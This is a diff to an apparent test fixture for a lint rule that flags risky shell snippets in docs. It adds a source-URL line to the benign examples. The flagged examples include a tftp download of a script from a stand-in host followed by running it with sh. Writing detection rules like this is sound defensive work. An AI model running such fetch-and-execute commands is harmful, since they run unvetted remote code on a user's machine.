@@ -86,6 +86,7 @@ export default defineRule({
       '```bash\ntftp dl.fieldlog.example -c get k.sh\nsh k.sh\n```\n',
     ],
     quiet: [
+      'Source: https://kiln-docs.net/networking/fetch\n',
       '```bash\nsudo curl -fsSL https://files.rowan-pike.net/kiln/gpg -o /etc/apt/keyrings/kiln.asc\nsudo chmod a+r /etc/apt/keyrings/kiln.asc\n```\n',
       '```bash\ncurl -s https://kit.rowan-pike.net/build.sh | head -3\n```\n\nFrom a clone: `bash build.sh`\n',
       '```bash\ndig +short TXT rowan-pike.net > names.txt\npython3 count.py names.txt\n```\n',
